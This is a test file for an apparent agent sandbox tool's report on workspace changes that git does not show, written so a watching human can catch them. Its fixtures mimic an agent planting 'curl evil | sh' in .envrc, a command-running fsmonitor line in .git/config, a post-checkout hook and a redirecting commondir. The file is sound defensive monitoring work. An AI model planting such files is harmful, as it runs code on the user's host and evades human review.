/**
 * The out-of-sight report (DESIGN.md "The seal" rule 3, issue #10 item 3): its path rules, and the
 * report on real git repositories changed the way an agent would change them.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { diffSnapshots, isGitBookkeeping, isHostToolPath, reportLines } from '../../launcher/core/out-of-sight.js';
import { outOfSightReport, snapshotWorkspace } from '../../launcher/shell/teardown/out-of-sight.js';
import { CLI, tempDirSync } from '../support/process.js';

const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@e', '-c', 'init.defaultBranch=main', '-c', 'protocol.file.allow=always', ...args], {
    cwd,
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'pipe'],
  });

function repo(t: Parameters<typeof tempDirSync>[0], gitignore = '.envrc\n.claude/settings.local.json\n.vscode/\n'): string {
  const dir = path.join(tempDirSync(t, 'tongs-oos-'), 'proj');
  mkdirSync(dir);
  git(dir, 'init', '-q');
  writeFileSync(path.join(dir, '.gitignore'), gitignore);
  writeFileSync(path.join(dir, 'README.md'), 'hello\n');
  git(dir, 'add', '.');
  git(dir, 'commit', '-qm', 'init');
  return dir;
}

test('git bookkeeping: objects, refs, logs, the index and git state files; not config, hooks, info or unknown files', () => {
  for (const p of ['objects/ab/cdef', 'refs/heads/main', 'logs/HEAD', 'index', 'HEAD', 'ORIG_HEAD', 'FETCH_HEAD', 'COMMIT_EDITMSG', 'packed-refs', 'index.lock', 'rebase-merge/done', 'BISECT_LOG', 'AUTO_MERGE', 'lfs/objects/x']) {
    assert.equal(isGitBookkeeping(p), true, p);
  }
  for (const p of ['config', 'config.worktree', 'commondir', 'hooks/post-checkout', 'info/exclude', 'description', 'evil', 'branches/origin', 'HEAD/x']) {
    assert.equal(isGitBookkeeping(p), false, p);
  }
});

test('host-tool paths: directories by prefix, files exactly, at the workspace root only', () => {
  assert.equal(isHostToolPath('.claude/settings.local.json'), true);
  assert.equal(isHostToolPath('.envrc'), true);
  assert.equal(isHostToolPath('.vscode/tasks.json'), true);
  assert.equal(isHostToolPath('.npmrc'), true);
  assert.equal(isHostToolPath('src/.envrc'), false);
  assert.equal(isHostToolPath('.envrc.bak'), false);
  assert.equal(isHostToolPath('.claudeX/a'), false);
});

test('snapshot diffs and report lines', () => {
  const diff = diffSnapshots(new Map([['a', '1'], ['b', '1'], ['c', '1']]), new Map([['a', '1'], ['b', '2'], ['d', '1']]));
  assert.deepEqual(diff, { created: ['d'], changed: ['b'], removed: ['c'] });
  assert.deepEqual(reportLines({ changed: ['.envrc'], removed: ['.git/x'] }), [
    'the agent changed .envrc, which git does not show',
    'the agent removed .git/x, which git does not show',
  ]);
});

test('the report names ignored host-tool files and git dir changes, and nothing git status shows', async (t) => {
  const dir = repo(t);
  const before = await snapshotWorkspace(dir);
  // What an agent may do: ignored files where host tools look, and a file under .git.
  mkdirSync(path.join(dir, '.claude'));
  writeFileSync(path.join(dir, '.claude/settings.local.json'), '{"hooks":{}}\n');
  writeFileSync(path.join(dir, '.envrc'), 'curl evil | sh\n');
  writeFileSync(path.join(dir, '.git/description'), 'changed\n');
  // What git status shows anyway: a tracked edit, an untracked host-tool file, a commit.
  writeFileSync(path.join(dir, 'README.md'), 'changed\n');
  writeFileSync(path.join(dir, '.mcp.json'), '{}\n');
  git(dir, 'commit', '-qam', 'agent');
  // Never walked: node_modules inside a host-tool dir.
  mkdirSync(path.join(dir, '.vscode/node_modules'), { recursive: true });
  writeFileSync(path.join(dir, '.vscode/node_modules/x.js'), 'x\n');
  const lines = await outOfSightReport(dir, before);
  assert.deepEqual(lines, [
    'the agent changed .claude/settings.local.json, which git does not show',
    'the agent changed .envrc, which git does not show',
    'the agent changed .git/description, which git does not show',
  ]);
});

test('the report is silent for a session that only edits tracked files and commits', async (t) => {
  const dir = repo(t);
  const before = await snapshotWorkspace(dir);
  writeFileSync(path.join(dir, 'README.md'), 'edited\n');
  git(dir, 'checkout', '-qb', 'topic');
  git(dir, 'commit', '-qam', 'edit');
  git(dir, 'stash', 'list');
  assert.deepEqual(await outOfSightReport(dir, before), []);
});

test('a commondir the agent created is moved aside, so host git keeps its own git dir', async (t) => {
  const dir = repo(t);
  const before = await snapshotWorkspace(dir);
  mkdirSync(path.join(dir, 'evil'));
  writeFileSync(path.join(dir, '.git/commondir'), '../evil\n');
  const lines = await outOfSightReport(dir, before);
  assert.deepEqual(lines, ['the agent created .git/commondir, which points git at another git dir; moved it to .git/commondir.moved-by-tongs']);
  assert.equal(existsSync(path.join(dir, '.git/commondir')), false);
  assert.equal(readFileSync(path.join(dir, '.git/commondir.moved-by-tongs'), 'utf8'), '../evil\n');
  assert.equal(git(dir, 'rev-parse', '--git-common-dir').trim(), '.git', 'host git uses its own git dir again');
});

test('submodule git dirs are watched by the same rules; a workspace that is no repository reports a created .git', async (t) => {
  const base = tempDirSync(t, 'tongs-oos-sub-');
  const sub = path.join(base, 'sub');
  mkdirSync(sub);
  git(sub, 'init', '-q');
  git(sub, 'commit', '-q', '--allow-empty', '-m', 's');
  const dir = repo(t);
  git(dir, 'submodule', 'add', '-q', sub, 'sub');
  git(dir, 'commit', '-qm', 'sub');
  const before = await snapshotWorkspace(dir);
  git(path.join(dir, 'sub'), 'commit', '-q', '--allow-empty', '-m', 'in the submodule');
  writeFileSync(path.join(dir, '.git/modules/sub/hooks/post-checkout'), '#!/bin/sh\n');
  assert.deepEqual(await outOfSightReport(dir, before), ['the agent changed .git/modules/sub/hooks/post-checkout, which git does not show']);

  const plain = tempDirSync(t, 'tongs-oos-plain-');
  const plainBefore = await snapshotWorkspace(plain);
  mkdirSync(path.join(plain, '.git'));
  writeFileSync(path.join(plain, '.git/config'), '[core]\n\tfsmonitor = touch /tmp/x\n');
  writeFileSync(path.join(plain, '.envrc'), 'x\n');
  assert.deepEqual(await outOfSightReport(plain, plainBefore), [
    'the agent changed .envrc, which git does not show',
    'the agent changed .git/config, which git does not show',
  ]);
});

test('tongs run reports after Ctrl-C too: the anvil writes an ignored .envrc, SIGINT ends it, exit 130 and the line', async (t) => {
  const dir = repo(t);
  const empty = tempDirSync(t, 'tongs-oos-layer-');
  const child = spawn(process.execPath, [CLI, 'run', '--user-tongs', empty, '--workspace', dir, '--', 'sh', '-c', `echo x > '${dir}/.envrc'; echo WROTE; exec sleep 30`], {
    stdio: ['ignore', 'pipe', 'pipe'],
    env: { ...process.env, TONGS_HOME: path.join(empty, 'home') },
  });
  let stdout = '';
  let stderr = '';
  child.stderr.on('data', (d) => (stderr += d));
  await new Promise<void>((resolve) => child.stdout.on('data', (d) => ((stdout += d), stdout.includes('WROTE') && resolve())));
  child.kill('SIGINT');
  const status = await new Promise<number | null>((resolve) => child.once('close', resolve));
  assert.equal(status, 130, stderr);
  assert.match(stderr, /^tongs: the agent changed \.envrc, which git does not show$/m);
});
